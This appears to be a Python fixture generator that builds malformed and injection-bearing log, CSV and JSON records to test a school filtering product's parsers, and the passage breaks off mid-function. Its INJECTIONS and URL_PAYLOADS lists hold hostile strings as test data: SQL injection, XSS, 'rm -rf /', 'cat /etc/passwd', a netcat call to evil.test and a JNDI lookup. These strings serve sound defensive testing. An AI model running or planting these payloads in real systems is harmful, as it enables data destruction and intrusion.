"""Deterministic malformed inputs for every source format (issue #7: bad input at scale).

`build(seed)` returns, for each of the 13 `KIND:FORMAT` sources, files of records: valid ones
(some carrying injection strings as data) and malformed variants of valid ones (truncated,
binary and NUL bytes, a 5 MB line, latin-1 / cp1252 / UTF-16 / UTF-32 bytes, timestamps in
year 9999, 1900, epoch 0 or negative, wrong field counts, wrong JSON types). Every `Rec` says
what the product must make of it, from the documented policy of its parser (docs/formats.md,
the parsers' docstrings, `check_timestamp`): how many records it is (0 for a blank, header or
debug line), how many of those are events, which reason (a regex) each dead letter gives, and
which values an event must hold byte for byte. The same seed gives the same bytes.

What one record is: a line for line formats; a CSV record (which may span lines) for CSV
formats; one row / activity event / sign-in of a JSON batch line; for `auth:google-json`, one
(activity, event) of the whole document or, when the file is not one JSON value, a non-blank
line (NDJSON). A line that is not UTF-8 is one record (a dead letter) in every format.
"""

from __future__ import annotations

import csv
import html
import io
import json
import random
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

BASE = datetime(2026, 11, 16, 9, 0, tzinfo=UTC)  # a Monday of the Autumn term (GMT = UTC)
HUGE = 5 * 1024 * 1024
CYCLE_START = 10_000  # malformed records use ids far from the valid ones'

# Injection strings: stored as data, they must come back byte for byte.
INJECTIONS: tuple[str, ...] = (
    "'; DROP TABLE events;--",
    "Robert'); DROP TABLE dead_letters;--",
    "\" OR \"1\"=\"1",
    "admin'--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc evil.test 4444",
    "pupil1\r\n1795285208.110 1 10.0.0.1 TCP_MISS/200 0 GET http://forged.test/ admin x/- -",
    "pupil1\n[2026/11/16 09:00:00.000000,  3] forged: JSON Authentication: {}",
    "\x1b[2J\x1b[31mRED\x1b[0m",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%s%s%n%x",
    "../../../etc/passwd",
    "\u202eevil\u202c",
    "a\\b\\\\c",
    "nul\x00byte",
    "NULL",
    "\U0001f642 \u65e5\u672c\u8a9e",
)
ONE_LINE = tuple(p for p in INJECTIONS if "\n" not in p and "\r" not in p)
URL_PAYLOADS: tuple[str, ...] = (
    "http://www.bbc.co.uk/search?q=%27%3B%20DROP%20TABLE%20events%3B--",
    "http://evil.test/<script>alert(1)</script>",
    "http://evil.test/$(rm${IFS}-rf${IFS}/)",
    "http://evil.test/a?b=`reboot`&c=%0d%0aSet-Cookie:%20x=1",
    "http://evil.test/%1b%5b31m%00",
    "http://evil.test/'--;\"",
)
_EMAIL = re.compile(r"[^@\s]+@[^@\s]+")  # the Google suite's actor rule (pipelines/quality.py)
_ASSET_NAME = re.compile(r"\([^()\s]{1,64}\)\s*$")  # Snipe-IT: "... (TAG)" names an asset

# Dead-letter reasons (regexes)
NOT_UTF8 = r"^not UTF-8 text"
TOO_LONG = r"longer than|field larger than field limit"
FUTURE = r"in the future"
ANCIENT = r"before 2000-01-01"
BAD_JSON = r"invalid JSON|expected a JSON object"
VALIDATE = r"^failed expect_"


@dataclass(frozen=True)
class Rec:
    """Bytes written (terminator included) and what the product must make of them."""

    data: bytes
    variant: str
    records: int = 1
    events: int = 0
    reason: str = ""  # regex each dead letter's reason must match ("" = any non-empty)
    validate: int = 0  # of the dead letters, those from the quality suite (no line number)
    stored: tuple[tuple[str, str], ...] = ()  # (column, value) one event holds verbatim

    @property
    def dead(self) -> int:
        return self.records - self.events


@dataclass
class BadFile:
    source: str  # KIND:FORMAT
    name: str
    recs: list[Rec] = field(default_factory=list)

    def content(self) -> bytes:
        return b"".join(r.data for r in self.recs)

    def starts(self) -> list[int]:
        """The line each record starts on."""
        out, line = [], 1
        for r in self.recs:
            out.append(line)
            line += r.data.count(b"\n")
        return out

    @property
    def records(self) -> int:
        return sum(r.records for r in self.recs)

    @property
    def events(self) -> int:
        return sum(r.events for r in self.recs)

    @property
    def dead(self) -> int:
        return sum(r.dead for r in self.recs)


def _bytes(data: str | bytes) -> bytes:
    return data.encode() if isinstance(data, str) else data


def event(text: str, variant: str, *stored: tuple[str, str]) -> Rec:
    return Rec((text + "\n").encode(), variant, events=1, stored=tuple(stored))


def dead(data: str | bytes, variant: str, reason: str, *, records: int = 1,
         newline: bool = True) -> Rec:
    return Rec(_bytes(data) + (b"\n" if newline else b""), variant, records=records,
               reason=reason)


def invalid(text: str, variant: str) -> Rec:
    """Parsed, then refused by the source's quality suite (a `validate` dead letter)."""
    return Rec((text + "\n").encode(), variant, reason=VALIDATE, validate=1)


def skipped(data: str | bytes, variant: str, *, newline: bool = True) -> Rec:
    """Not a record: a blank line, a CSV header, a debug line, an empty page."""
    return Rec(_bytes(data) + (b"\n" if newline else b""), variant, records=0)


# ------------------------------------------------------------------ generic corruptions

def binary(rng: random.Random) -> bytes:
    """Random bytes without a line break, sure to hold invalid UTF-8."""
    body = bytearray(b for b in rng.randbytes(rng.randrange(8, 300)) if b != 0x0A)
    body.insert(rng.randrange(len(body) + 1), 0xFF)
    return bytes(body)


def junk_text(rng: random.Random) -> str:
    """Valid UTF-8 junk (controls, NUL, symbols, CJK, emoji) with no white space, comma,
    quote, `=`, `{` or tab: no format can read a record in it."""
    alphabet = ("\x00\x01\x02\x07\x08\x1b\x7f!#$%&()*+-./0123456789:;<>?@[]^_|~"
                "\u00e9\u00fc\u20ac\u4e2d\u6587\U0001f4a9\ufffd")
    return "~" + "".join(rng.choice(alphabet) for _ in range(rng.randrange(5, 200)))


def utf16_no_bom(text: str) -> bytes:
    """UTF-16LE without a BOM: valid UTF-8 (ASCII and NULs) that reads as junk."""
    data = text.encode("utf-16-le")
    assert b"\n" not in data
    return data


def iso_ms(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ts.microsecond // 1000:03d}Z"


def at(i: int) -> datetime:
    return BASE + timedelta(seconds=i * 7)


# ISO 8601 times the plausibility check (producers/parsing.py check_timestamp) or the
# time parser must refuse, with the reason
ISO_TIMES: tuple[tuple[str, str], ...] = (
    ("9999-12-31T23:59:59Z", FUTURE),
    ("2100-01-01T00:00:00+00:00", FUTURE),
    ("1900-01-01T00:00:00Z", ANCIENT),
    ("1970-01-01T00:00:00Z", ANCIENT),
    ("1999-12-31T23:59:59.999Z", ANCIENT),
    ("0001-01-01T00:00:00+01:00", r"timestamp .*out of range"),  # before year 1 in UTC
    ("9999-12-31T23:59:59-05:00", r"timestamp .*out of range"),  # after year 9999 in UTC
    ("2026-02-30T10:00:00Z", "is not ISO 8601"),
    ("2026-11-16T25:61:00Z", "is not ISO 8601"),
    ("-2026-11-16T10:00:00Z", "is not ISO 8601"),
    ("yesterday", "is not ISO 8601"),
    ("", "missing or not text"),
)
FIRST_INSTANT = "2000-01-01T00:00:00Z"  # the earliest plausible time is an event

Maker = Callable[[int], Rec | list[Rec]]


def cycle(n: int, makers: list[Maker], start: int = CYCLE_START) -> list[Rec]:
    """Records from `makers` in turn until `n` of them are dead letters."""
    out: list[Rec] = []
    i, dead_letters = start, 0
    while dead_letters < n:
        made = makers[i % len(makers)](i)
        for rec in made if isinstance(made, list) else [made]:
            out.append(rec)
            dead_letters += rec.dead
        i += 1
    return out


def line_corruptions(rng: random.Random, valid: Callable[[int], str], *,
                     cut: Callable[[str], int], critical: Callable[[str], int],
                     syntax: str, huge: str, huge_reason: str = TOO_LONG,
                     nul_run: bool = True, junk: bool = True) -> list[Maker]:
    """Corruptions every format must dead-letter. `cut(line)`: a prefix at most this long is
    sure to be malformed; `critical(line)`: an index inside a field every event needs (a NUL
    there breaks it); `syntax`: the reason junk text gets; `huge`: a 5 MB line."""

    def truncated(i: int) -> Rec:
        line = valid(i)
        return dead(line[:rng.randint(1, cut(line))], "truncated", syntax)

    def binary_line(i: int) -> Rec:
        return dead(binary(rng), "binary", NOT_UTF8)

    def junk_line(i: int) -> Rec:
        return dead(junk_text(rng), "junk-text", syntax)

    def nul_bytes(i: int) -> Rec:
        line = valid(i)
        k = critical(line)
        return dead(line[:k] + "\x00" * rng.randint(1, 4) + line[k:], "nul-bytes", "")

    def nul_block(i: int) -> Rec:  # a crash leaves a block of NULs before the next line
        return dead("\x00" * 512 + valid(i), "nul-block", syntax)

    def wrong_encoding(i: int) -> Rec:
        line = valid(i)
        k = rng.randrange(1, len(line))
        text = line[:k] + "\u00e9\u2019" + line[k:]
        name = ("latin-1", "cp1252", "utf-16", "utf-32")[i % 4]
        return dead(text.encode(name, "replace"), name, NOT_UTF8)

    def utf16(i: int) -> Rec:
        return dead(utf16_no_bom(valid(i)), "utf-16le-no-bom", "")

    def bad_utf8(i: int) -> Rec:
        line = valid(i).encode()
        seq = rng.choice([b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80",
                          b"\xe2\x82"])
        k = rng.randrange(len(line))
        return dead(line[:k] + seq + line[k:], "invalid-utf-8", NOT_UTF8)

    def bom_and_ff(i: int) -> Rec:
        return dead(b"\xef\xbb\xbf\xff" + valid(i).encode(), "bom-and-ff", NOT_UTF8)

    used = {"huge": False}

    def huge_line(i: int) -> Rec:
        if used["huge"]:
            return truncated(i)
        used["huge"] = True
        return dead(huge, "huge-5MB", huge_reason)

    makers: list[Maker] = [truncated, binary_line, nul_bytes, wrong_encoding, utf16,
                           bad_utf8, bom_and_ff, huge_line]
    if junk:
        makers.append(junk_line)
    if nul_run:
        makers.append(nul_block)
    return makers


def field_start(line: str, index: int, sep: str | None = None) -> int:
    """Where field `index` (0-based) starts; fields split on `sep` or runs of white space."""
    if sep is None:
        return [m.start() for m in re.finditer(r"\S+", line)][index]
    pos = -1
    for _ in range(index):
        pos = line.index(sep, pos + 1)
    return pos + 1


# ------------------------------------------------------------------------- line formats

def squid_line(i: int, *, ts: str | None = None, user: str = "", url: str = "",
               code: str = "TCP_MISS/200", size: str = "478", method: str = "GET") -> str:
    t = ts if ts is not None else f"{at(i).timestamp():.3f}"
    return (f"{t} {i % 900 + 1:6d} 10.10.{i // 250 % 250}.{i % 250 + 1} {code} {size} "
            f"{method} {url or f'http://www.bbc.co.uk/bitesize/{i}'} {user or f'pupil{i}'} "
            f"HIER_DIRECT/10.9.0.1 text/html")


def squidlike_injections(line: Callable[[int, str, str], str]) -> list[Rec]:
    """User names URL-encoded as Squid and squidGuard log them; URLs as requested."""
    out = [event(line(k, quote(p, safe=""), ""), "inject-user", ("user_name", p))
           for k, p in enumerate(INJECTIONS)]
    out += [event(line(100 + k, "", u), "inject-url", ("url_original", u))
            for k, u in enumerate(URL_PAYLOADS)]
    return out


def squid(rng: random.Random, n: int) -> list[BadFile]:
    syntax = r"expected 10 fields|not epoch seconds"
    makers = line_corruptions(
        rng, squid_line, cut=lambda s: field_start(s, 9) - 1, critical=lambda s: 3,
        syntax=syntax, huge=squid_line(0, url="http://x.test/" + "A" * HUGE))
    times = [("253402300799.000", FUTURE), ("4102444800.000", FUTURE),
             ("-2208988800.000", ANCIENT), ("0.000", ANCIENT), ("-1.000", ANCIENT),
             ("946684799.999", ANCIENT), ("1e20", "not epoch seconds"),
             ("nan", "not epoch seconds"), ("inf", "not epoch seconds"),
             ("-62135596801", "not epoch seconds"),
             ("2026-11-16T09:00:00Z", "not epoch seconds")]
    makers += [
        lambda i: dead(squid_line(i, ts=times[i % len(times)][0]), "time",
                       times[i % len(times)][1]),
        lambda i: dead(squid_line(i).rsplit(" ", 1)[0], "nine-fields", "expected 10 fields"),
        lambda i: dead(squid_line(i, code="TCP_MISS"), "code", "CODE/STATUS"),
        lambda i: dead(squid_line(i, code="TCP_MISS/2x0"), "code", "CODE/STATUS"),
        lambda i: dead(squid_line(i, size="12a"), "size", "is not a number"),
        lambda i: dead(squid_line(i, method="G3T"), "method", "not an HTTP method"),
        lambda i: dead(squid_line(i, url="/no/host"), "url", "has no host"),
        lambda i: invalid(squid_line(i, code="TCP_MISS/099"), "status-99"),
    ]
    recs = [event(squid_line(i), "valid") for i in range(20)]
    recs.append(event(squid_line(20, ts="946684800.000"), "valid-2000-01-01"))
    recs += [skipped("", "blank"), skipped("   \t ", "blank")]
    recs += squidlike_injections(lambda i, u, url: squid_line(1000 + i, user=u, url=url))
    recs += cycle(n, makers)
    return [BadFile("filter:squid", "squid-access.log", recs)]


def e2g_line(i: int, *, ts: str | None = None, user: str = "", url: str = "",
             code: str = "403", method: str = "GET", msg: str = "500", extra: int = 0) -> str:
    """logfileformat 6 with logclienthostandip: 20 tab-separated fields."""
    t = ts if ts is not None else f"{at(i).timestamp():.3f}"
    fields = [t, "", user or f"pupil{i}", f"10.10.1.{i % 250 + 1}", f"lt-{i:04d}",
              url or f"http://proxysite.test/browse/{i}", method, code, "0", "text/html",
              "Mozilla/5.0", "-", str(i % 900 + 1), "-", msg,
              "*DENIED* Banned site: proxysite.test", "0", "Proxies", "pupils", "1"]
    return "\t".join(fields + ["x"] * extra)


def e2g_format1(i: int) -> str:
    """logfileformat 1: local time (GMT in November), space separated."""
    return (f"{at(i):%Y.%m.%d %H:%M:%S} pupil{i} 10.10.1.7 http://forum.test/{i} - GET 66 0 "
            f"- 1 200 - 10.10.1.7 no_name_group - - - - -")


def e2guardian(rng: random.Random, n: int) -> list[BadFile]:
    makers = line_corruptions(
        rng, e2g_line, cut=lambda s: field_start(s, 17, "\t") - 1, critical=lambda s: 3,
        syntax=r"expected|not recognised",
        huge=e2g_line(0, url="http://x.test/" + "A" * HUGE))
    times = [("9999999999.000", FUTURE), ("000000000.000", ANCIENT),
             ("946684799.000", ANCIENT), ("0.000", "not recognised"),
             ("-1.000", "not recognised"), ("253402300799.000", "not recognised"),
             ("1795285208", "not recognised")]
    makers += [
        lambda i: dead(e2g_line(i, ts=times[i % len(times)][0]), "time",
                       times[i % len(times)][1]),
        lambda i: dead(e2g_line(i, extra=3), "23-fields", "expected 19-22"),
        lambda i: dead(e2g_line(i, code="4O3"), "status", "HTTP status"),
        lambda i: dead(e2g_line(i, msg="five"), "message", "message number"),
        lambda i: dead(e2g_line(i, method="get"), "method", "not an HTTP method"),
        lambda i: dead(e2g_line(i, url=" "), "url", "has no host"),
        lambda i: invalid(e2g_line(i, code="099"), "status-99"),
    ]
    recs = [event(e2g_line(i), "valid") for i in range(15)]
    recs += [event(e2g_format1(15 + i), "valid-format-1") for i in range(5)]
    recs.append(event(e2g_line(20, ts="946684800.000"), "valid-2000-01-01"))
    recs += [event(e2g_line(1000 + k, user=p), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(ONE_LINE)]
    recs += [event(e2g_line(1100 + k, url=u), "inject-url", ("url_original", u))
             for k, u in enumerate((*URL_PAYLOADS, "http://bbc.co.uk/?q=$(rm -rf /); <b>x"))]
    recs += cycle(n, makers)
    return [BadFile("filter:e2guardian", "e2guardian-access.log", recs)]


def sg_line(i: int, *, when: str | None = None, user: str = "", url: str = "",
            method: str = "GET", verdict: str = "REDIRECT", request: str = "Request") -> str:
    w = when or f"{at(i):%Y-%m-%d %H:%M:%S}"  # local time: GMT in November
    return (f"{w} [{7000 + i % 900}] {request}(pupils/social_networks/-) "
            f"{url or f'http://social.test/feed/{i}'} "
            f"10.10.1.{i % 250 + 1}/lt-{i:04d}.school.test {user or f'pupil{i}'} {method} "
            f"{verdict}")


def squidguard(rng: random.Random, n: int) -> list[BadFile]:
    request = "not a squidGuard request line"
    makers = line_corruptions(  # cut before the method: a field short
        rng, sg_line, cut=lambda s: field_start(s, 7) - 2, critical=lambda s: 2,
        syntax=request, huge=sg_line(0, url="http://x.test/" + "A" * HUGE))
    times = [("9999-12-31 23:59:59", FUTURE), ("2100-01-01 00:00:00", FUTURE),
             ("1900-01-01 00:00:00", ANCIENT), ("1970-01-01 00:00:00", ANCIENT),
             ("1999-12-31 23:59:59", ANCIENT), ("0000-00-00 00:00:00", "is not a date"),
             ("2026-02-30 10:00:00", "is not a date"), ("2026-13-01 10:00:00", "is not a date")]
    makers += [
        lambda i: dead(sg_line(i, when=times[i % len(times)][0]), "time",
                       times[i % len(times)][1]),
        lambda i: dead(sg_line(i, method="G3T"), "method", "not an HTTP method"),
        lambda i: dead(sg_line(i, verdict="MAYBE"), "verdict", "unknown trailing verdict"),
        lambda i: dead(sg_line(i, request="Reqest"), "request", request),
        lambda i: dead(sg_line(i, url="http:///nohost"), "url", "has no host"),
    ]
    recs = [event(sg_line(i), "valid") for i in range(20)]
    recs.append(event(sg_line(20, when="2000-01-01 00:00:00"), "valid-2000-01-01"))
    recs += squidlike_injections(lambda i, u, url: sg_line(1000 + i, user=u, url=url))
    recs += cycle(n, makers)
    return [BadFile("filter:squidguard", "squidguard-blocked.log", recs)]


def fg_quote(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"')


def fg_line(i: int, *, when: str | None = None, user: str = "", url: str = "",
            action: str = "blocked", subtype: str = "webfilter") -> str:
    t = at(i)
    head = when if when is not None else (
        f'date={t:%Y-%m-%d} time={t:%H:%M:%S} eventtime={int(t.timestamp())}000000000 '
        f'tz="+0000"')
    return (f'{head} logid="0316013056" type="utm" subtype="{subtype}" eventtype="ftgd_blk" '
            f'level="warning" vd="root" policyid=3 sessionid={100000 + i} '
            f'srcip=10.10.1.{i % 250 + 1} srcport=50000 dstip=198.18.0.1 dstport=443 '
            f'service="HTTPS" hostname="social.test" profile="school-pupils" '
            f'action="{action}" url="{fg_quote(url or f"https://social.test/feed/{i}")}" '
            f'msg="URL belongs to a denied category in policy" method="domain" cat=37 '
            f'catdesc="Social Networking" user="{fg_quote(user or f"pupil{i}")}" '
            f'group="pupils"')


def fortigate(rng: random.Random, n: int) -> list[BadFile]:
    makers = line_corruptions(  # cut before action=: no verdict (nor subtype, nor time)
        rng, fg_line, cut=lambda s: s.index(' action="'),
        critical=lambda s: s.index('subtype="') + 12,  # inside "webfilter"
        syntax=r"no key=value fields|not a web-filter record|unknown action",
        huge=fg_line(0, url="https://x.test/" + "A" * HUGE),
        nul_run=False)  # pairs are found anywhere in a line: NULs before them are skipped
    heads = [("eventtime=253402300799", FUTURE), ("eventtime=0", ANCIENT),
             ("eventtime=946684799", ANCIENT),
             # units go by magnitude (s < 10^12 <= ms < 10^15 <= us < 10^18 <= ns): 1999
             # in ms or ns reads as seconds or microseconds, past year 9999
             ("eventtime=946684799999", "invalid"), ("eventtime=946684799000000000", "invalid"),
             ("eventtime=99999999999999999999999", "invalid"),
             ('date=1900-01-01 time=00:00:00 tz="+0000"', ANCIENT),
             ('date=9999-12-31 time=23:59:59 tz="-0500"', "invalid"),
             ('date=9999-12-31 time=23:59:59 tz="+0000"', FUTURE),
             ('date=2026-02-30 time=10:00:00 tz="+0000"', "not ISO"),
             ("eventtime=-5", "no eventtime and no date/time"),
             ("", "no eventtime and no date/time")]
    makers += [
        lambda i: dead(fg_line(i, when=heads[i % len(heads)][0]), "time",
                       heads[i % len(heads)][1]),
        lambda i: dead(fg_line(i, subtype="forward"), "subtype", "not a web-filter record"),
        lambda i: dead(fg_line(i, action="explode"), "action", "unknown action"),
        lambda i: dead(fg_line(i).replace('hostname="social.test"', 'hostname=""')
                       .replace(f'url="https://social.test/feed/{i}"', 'url=""'),
                       "no-url", "has no host"),
    ]
    recs = [event(fg_line(i), "valid") for i in range(20)]
    recs.append(event(fg_line(20, when='date=2000-01-01 time=00:00:00 tz="+0000"'),
                      "valid-2000-01-01"))
    recs.append(event("\x00" * 512 + fg_line(21), "valid-after-nul-block"))
    recs += [event(fg_line(1000 + k, user=p), "inject-user", ("user_name", p))
             for k, p in enumerate(ONE_LINE)]
    recs += [event(fg_line(1100 + k, url=u), "inject-url", ("url_original", u))
             for k, u in enumerate((*URL_PAYLOADS, 'https://evil.test/?q=" OR "1"="1'))]
    # long runs of key characters and no `=`: refused in linear time, not quadratic
    recs += [dead("a" * 60_000, "no-pairs-60k", "no key=value fields"),
             dead("x." * 30_000, "no-pairs-60k", "no key=value fields")]
    recs += cycle(n, makers)
    return [BadFile("filter:fortigate", "fortigate-webfilter.log", recs)]


# ------------------------------------------------------------------------- CSV formats

def csv_row(fields: Iterable[str]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(list(fields))
    return buf.getvalue()[:-1]


def csv_corruptions(rng: random.Random, valid: Callable[[int], str], *,
                    cut: Callable[[str], int], critical: Callable[[str], int], syntax: str,
                    huge: str) -> list[Maker]:
    """As `line_corruptions`, on rows without quotes (so no cut or junk opens a quoted
    field that would swallow the records after it). A NUL block is field text in CSV."""
    return line_corruptions(rng, valid, cut=cut, critical=critical, syntax=syntax, huge=huge,
                            nul_run=False)


FILTER_HEADER = "time,username,source_ip,group,code,url,categories,search_terms,log_level"


def fcsv(i: int, **over: str) -> str:
    f = {"time": iso_ms(at(i)), "username": f"pupil{i}", "source_ip": f"10.10.1.{i % 250 + 1}",
         "group": "pupils", "code": "403", "url": f"http://casino.test/{i}",
         "categories": "gambling", "search_terms": "", "log_level": "warning"}
    f.update(over)
    return csv_row(f.values())


def filter_csv(rng: random.Random, n: int) -> list[BadFile]:
    makers = csv_corruptions(  # cut before the url column: fewer fields than required
        rng, fcsv, cut=lambda s: field_start(s, 5, ",") - 1, critical=lambda s: 2,
        syntax=r"fewer than the header", huge=fcsv(0, url="http://x.test/" + "A" * HUGE))
    times = [("9999-12-31T23:59:59Z", FUTURE), ("2100-01-01T00:00:00+00:00", FUTURE),
             ("99999999999", FUTURE), ("1900-01-01T00:00:00Z", ANCIENT),
             ("946684799", ANCIENT), ("1999-12-31T23:59:59Z", ANCIENT),
             ("0", "neither ISO 8601"), ("-1", "neither ISO 8601"),
             ("0001-01-01T00:00:00+01:00", "out of range"),
             ("9999-12-31T23:59:59-05:00", "out of range"),
             ("2026-11-16T10:00:00", "has no UTC offset"), ("", "neither ISO 8601")]
    makers += [
        lambda i: dead(fcsv(i, time=times[i % len(times)][0]), "time",
                       times[i % len(times)][1]),
        lambda i: dead(",".join(fcsv(i).split(",")[:4]), "4-fields", "fewer than the header"),
        lambda i: dead(fcsv(i, code="maybe"), "code", "not an HTTP status or verdict"),
        lambda i: dead(fcsv(i, url=""), "url", "has no host"),
        lambda i: dead(fcsv(i, source_ip="999.1.1.1"), "ip", "not an IP address"),
        lambda i: invalid(fcsv(i, code="099"), "status-99"),
    ]
    recs = [skipped(FILTER_HEADER, "header")]
    recs += [event(fcsv(i), "valid") for i in range(20)]
    recs.append(event(fcsv(20, time=FIRST_INSTANT), "valid-2000-01-01"))
    recs.append(event(fcsv(21, time=str(int(at(21).timestamp()))), "valid-epoch"))
    # fields past the header's: ignored, as extra columns are (docs/formats.md)
    recs.append(event(fcsv(22) + ",extra,extra", "valid-extra-fields"))
    recs.append(skipped("", "blank"))
    recs += [event(fcsv(1000 + k, username=p), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(INJECTIONS)]
    recs += [event(fcsv(1100 + k, url=u), "inject-url", ("url_original", u))
             for k, u in enumerate((*URL_PAYLOADS, "http://bbc.co.uk/?q=a,b\r\nforged,line"))]
    recs += cycle(n, makers)
    # a file whose header is not UTF-8: each record says it has no header
    latin = BadFile("filter:csv", "filter-latin1-header.csv", [
        dead(FILTER_HEADER.replace("time", "t\u00eame").encode("latin-1"), "header-latin-1",
             NOT_UTF8),
        *(dead(fcsv(2000 + k), "no-header", "no header") for k in range(3))])
    return [BadFile("filter:csv", "filter.csv", recs), latin]


SNIPE_HEADER = "Date,Admin,Action,Type,Item,To,Notes,Changed,Expected Checkin Date"


def snipe(i: int, **over: str) -> str:
    """A row of ReportsController::postActivityReport (8 columns) plus the expected
    check-in column, in Snipe-IT's local time (GMT in November)."""
    f = {"date": f"{at(i):%Y-%m-%d %H:%M:%S}", "admin": "IT Office", "action": "checkout",
         "type": "asset", "item": f"Dell Latitude 5440 (LT-{i:04d})", "to": f"Pupil {i}",
         "notes": "", "changed": "", "expected": "2026-11-20"}
    f.update(over)
    return csv_row(f.values())


def snipeit_csv(rng: random.Random, n: int) -> list[BadFile]:
    makers = csv_corruptions(
        rng, snipe, cut=lambda s: field_start(s, 8, ",") - 1, critical=lambda s: 2,
        syntax=r"expected 9 fields", huge=snipe(0, notes="A" * HUGE))
    times = [("9999-12-31 23:59:59", FUTURE), ("2100-01-01 00:00:00", FUTURE),
             ("1900-01-01 00:00:00", ANCIENT), ("1970-01-01 00:00:00", ANCIENT),
             ("1999-12-31 23:59:59", ANCIENT), ("0000-00-00 00:00:00", "Y-m-d H:i:s"),
             ("0001-01-01 00:00:00+05:00", "Y-m-d H:i:s"),
             ("2026-02-30 10:00:00", "Y-m-d H:i:s"), ("", "no created_at")]
    makers += [
        lambda i: dead(snipe(i, date=times[i % len(times)][0]), "time",
                       times[i % len(times)][1]),
        lambda i: dead(snipe(i) + ",x,y", "11-fields", "expected 9 fields"),
        lambda i: dead(",".join(snipe(i).split(",")[:7]), "7-fields", "expected 9 fields"),
        lambda i: invalid(snipe(i, item="Dell Latitude (two words)"), "asset-without-tag"),
    ]
    recs = [skipped(SNIPE_HEADER, "header")]
    recs += [event(snipe(i), "valid") for i in range(20)]
    recs.append(event(snipe(20, date="2000-01-01 00:00:00"), "valid-2000-01-01"))
    recs += [event(snipe(1000 + k, to=html.escape(p)), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(INJECTIONS) if not _ASSET_NAME.search(p)]
    recs += cycle(n, makers)
    cut = snipe(3001, notes="a note that\nspans lines")
    truncated = BadFile("device:snipeit-csv", "snipeit-truncated.csv", [
        skipped(SNIPE_HEADER, "header"), event(snipe(3000), "valid"),
        dead(cut[:cut.index("spans") + 2], "truncated-in-quotes",
             "unterminated quote at end of file", newline=False)])
    return [BadFile("device:snipeit-csv", "snipeit-activity.csv", recs), truncated]


INCIDENT_HEADER = ("incident_id,occurred_at,reported_at,reporter,category,pupils,description,"
                   "actions,status")


def incident(i: int, **over: str) -> str:
    f = {"incident_id": f"INC-{i:05d}", "occurred_at": at(i).isoformat(),
         "reported_at": (at(i) + timedelta(hours=1)).isoformat(), "reporter": "Staff One",
         "category": "bullying", "pupils": "P1:victim;P2:perpetrator",
         "description": f"Name-calling in the corridor (case {i})", "actions": "spoke to both",
         "status": "open"}
    f.update(over)
    return csv_row(f.values())


def incidents(rng: random.Random, n: int) -> list[BadFile]:
    makers = csv_corruptions(
        rng, incident, cut=lambda s: field_start(s, 8, ",") - 1,
        critical=lambda s: s.index(",") + 3,  # inside occurred_at
        syntax=r"expected 9 fields", huge=incident(0, description="A" * HUGE))
    times = [("9999-12-31T23:59:59Z", FUTURE), ("2100-01-01T00:00:00+00:00", FUTURE),
             ("1900-01-01T00:00:00Z", ANCIENT), ("1970-01-01", ANCIENT),
             ("1999-12-31T23:59:59", ANCIENT),
             ("0001-01-01T00:00:00+01:00", "not an ISO 8601 time"),
             ("2026-02-30T10:00:00", "not an ISO 8601 time"),
             ("yesterday", "not an ISO 8601 time")]
    makers += [
        lambda i: dead(incident(i, occurred_at=times[i % len(times)][0], reported_at=""),
                       "time", times[i % len(times)][1]),
        lambda i: dead(incident(i, category="fighting"), "category", "unknown category"),
        lambda i: dead(incident(i, pupils="P1"), "pupils", "malformed pupil pair"),
        lambda i: dead(incident(i, pupils="P1:bystander"), "pupils", "bad pupil role"),
        lambda i: dead(incident(i, incident_id=" "), "id", "incident_id is empty"),
        lambda i: dead(incident(i, reported_at="2026-01-01T00:00:00+00:00"), "order",
                       "reported_at is before occurred_at"),
        lambda i: dead(incident(i) + ",extra", "10-fields", "expected 9 fields"),
    ]
    recs = [skipped(INCIDENT_HEADER, "header")]
    recs += [event(incident(i), "valid") for i in range(20)]
    recs.append(event(incident(20, occurred_at=FIRST_INSTANT, reported_at=""),
                      "valid-2000-01-01"))
    # descriptions are kept verbatim, even their edge white space
    recs += [event(incident(1000 + k, description=p, reporter=p), "inject-description",
                   ("label:incident.description", p)) for k, p in enumerate(INJECTIONS)]
    recs += cycle(n, makers)
    cut = incident(3001, description="first line\nsecond line")
    truncated = BadFile("incident:csv", "incidents-truncated.csv", [
        skipped(INCIDENT_HEADER, "header"), event(incident(3000), "valid"),
        dead(cut[:cut.index("second") + 3], "truncated-in-quotes",
             "unterminated quote at end of file", newline=False)])
    return [BadFile("incident:csv", "incidents.csv", recs), truncated]


# ------------------------------------------------------------------------ JSON formats

def dumps(obj: Any) -> str:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


HUGE_JSON = '{"records":[{"x":"' + "A" * HUGE  # never closed: not JSON, whatever the limit
NOT_OBJECTS = ("[]", "[1,2]", '"text"', "42", "null", "true")


def json_corruptions(rng: random.Random, valid: Callable[[int], str], *,
                     syntax: str = BAD_JSON, huge: str = HUGE_JSON,
                     huge_reason: str = TOO_LONG, not_objects: tuple[str, ...] = NOT_OBJECTS,
                     not_object_reason: str = "expected a JSON object",
                     junk: bool = True) -> list[Maker]:
    makers = line_corruptions(rng, valid, cut=lambda s: len(s) - 1, critical=lambda s: 1,
                              syntax=syntax, huge=huge, huge_reason=huge_reason, junk=junk)
    makers += [
        lambda i: dead('{"a":' * 2000 + "1" + "}" * 2000, "json-too-deep", syntax),
        lambda i: dead(valid(i)[:-1] + ',"x":NaN}', "json-nan", syntax),
        lambda i: dead(valid(i)[:-1] + ',"x":1e999}', "json-infinity", syntax),
        lambda i: dead(valid(i).replace('":', '"=', 1), "json-syntax", syntax),
    ]
    if not_objects:
        makers.append(lambda i: dead(not_objects[i % len(not_objects)], "json-not-object",
                                     not_object_reason))
    return makers


def win_doc(i: int, *, code: Any = "4624", ts: Any = None, user: Any = None) -> dict[str, Any]:
    """A Winlogbeat 8 raw-collection document of a domain controller's 4624/4625."""
    data = {"TargetUserName": f"pupil{i}" if user is None else user,
